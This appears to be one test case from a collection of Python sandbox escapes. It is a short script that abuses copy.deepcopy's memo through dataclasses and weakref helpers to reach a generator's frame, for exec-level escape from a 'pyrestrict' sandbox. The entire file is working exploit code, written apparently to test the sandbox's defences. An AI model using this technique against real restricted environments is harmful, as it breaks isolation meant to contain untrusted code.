# technique: modules of the library copy for a guest that has not imported copy; what is copied on the way gets the memo, and changes it
# source: found in pyrestrict: copy was guarded when a guest imported it
# goal: any attribute of any object
# impact: exec
import collections
import dataclasses
import weakref


def generator():
    yield


running = generator()
method = ().__len__


class First:
    def __deepcopy__(self, memo):
        memo.update({id(()): running, id('__len__'): 'gi_frame'})
        return self

    def __hash__(self):
        return 0


@dataclasses.dataclass
class Holder:
    value: object


first = First()
for attempt in (
    lambda: dataclasses.asdict(Holder(collections.deque([first, method])))['value'][1],
    lambda: dataclasses.astuple(Holder(collections.deque([first, method])))[0][1],
    lambda: weakref.WeakKeyDictionary({first: [first, method]}).__deepcopy__({})[first][1],
    lambda: weakref.WeakValueDictionary({1: first}).__deepcopy__({id(()): running, id('__len__'): 'gi_frame'})[1],
):
    try:
        found = attempt()
    except (AttributeError, TypeError):
        continue
    if type(found) is not type(method) and found is not first:
        escaped(found)
